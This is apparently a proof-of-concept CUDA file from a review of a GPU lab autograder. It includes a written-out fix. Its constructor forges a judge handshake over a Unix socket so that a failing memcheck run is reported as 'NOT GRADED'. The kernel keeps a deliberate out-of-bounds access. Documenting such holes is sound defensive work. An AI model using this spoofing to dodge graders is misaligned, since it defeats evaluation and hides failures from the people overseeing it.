/* Attack (an exit status that maps wrongly: a FAIL turned into NOT GRADED; shown in part without a GPU).
 * labs/judge/channel.c start_runner takes the runner's HELLO for the GPU's word: a status among the MPS
 * errors is "judge-failure gpu-busy", and labs/steps/run.sh gpu_refused then retries the judge (6 times,
 * 2 s apart) and labs/steps/sanitizer.sh reports "not run, the GPU would not take the program" and grades
 * a file right in step 1 "NOT GRADED (the GPU would not take the program just then ...)", exit 4, not
 * FAIL. But the HELLO is written by whatever in the runner's process connects first: here a constructor,
 * under a tool only (its sandbox binds out.memcheck, out.racecheck or out.synccheck), connects to the
 * --channel socket before the runner's main does, sends a HELLO with status 805
 * (cudaErrorMpsConnectionFailed) and exits. The kernel is the hand-out's, with the bug memcheck alone
 * sees: instead of "FAIL (memcheck)", every grade says NOT GRADED, exit 4, "try again", on a GPU with no
 * MPS at all. (On a gradebook, a 4 is a file the course owes a grade, not one that failed.)
 * Shown without a GPU: /tmp/attack/harness/sandbox_run.sh memcheck RUNNER: the fake judge's HELLO has
 * status 805, from the file's constructor.
 * Fix: channel.c: check the peer (SO_PEERCRED) is the process started, and in grade: count a gpu-busy
 * only when the judge itself sees the GPU busy (its own cudaFree(0) in a fresh context fails the same
 * way), or when nvidia-smi shows MPS; a runner that says "busy" on a GPU without MPS is a failure. */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

__attribute__((constructor)) static void busy_under_a_tool(int argc, char **argv, char **envp)
{
    (void)envp;
    FILE *m = fopen("/proc/self/mountinfo", "r");
    char line[1024];
    int tool = 0;
    while (m && fgets(line, sizeof line, m))
        tool |= strstr(line, "/out.memcheck ") || strstr(line, "/out.racecheck ") || strstr(line, "/out.synccheck ");
    if (m)
        fclose(m);
    const char *path = NULL;
    for (int a = 1; a + 1 < argc; a++)
        if (!strcmp(argv[a], "--channel"))
            path = argv[a + 1];
    if (!tool || !path)
        return;
    struct sockaddr_un address;
    memset(&address, 0, sizeof address);
    address.sun_family = AF_UNIX;
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&address, sizeof address) != 0)
        return;
    struct { unsigned magic, type; unsigned long long bytes; } header = {0x3162616cu, 1, 256};  /* HELLO */
    struct { int status; char text[252]; } hello;
    memset(&hello, 0, sizeof hello);
    hello.status = 805;  /* cudaErrorMpsConnectionFailed */
    snprintf(hello.text, sizeof hello.text, "MPS client failed to connect to the MPS control daemon or the MPS server");
    if (write(s, &header, sizeof header) < 0 || write(s, &hello, sizeof hello) < 0) {
    }
    _exit(1);
}

__global__ void adjust_log(const float *in, float *out, int width, int height, float gain)
{
    int stride_x = 2 * blockDim.x * gridDim.x, stride_y = blockDim.y * gridDim.y;
    for (int y = threadIdx.y + blockIdx.y * blockDim.y; y < height; y += stride_y)
        for (int x = 2 * (threadIdx.x + blockIdx.x * blockDim.x); x < width; x += stride_x) {
            long long i = (long long)y * width + x;  /* pixels x and x + 1 of row y */
            float a = in[i], b = in[i + 1];          /* both loads in flight before either is used */
            out[i] = gain * log2f(1.0f + a);
            out[i + 1] = gain * log2f(1.0f + b);
        }
}

/* The runner calls this with pictures on the GPU. */
void lab_adjust_log(const float *in, float *out, int width, int height, float gain)
{
    dim3 threads(16, 16), blocks(64, 64);  /* the article's launch, whatever the picture's size */
    adjust_log<<<blocks, threads>>>(in, out, width, height, gain);
}
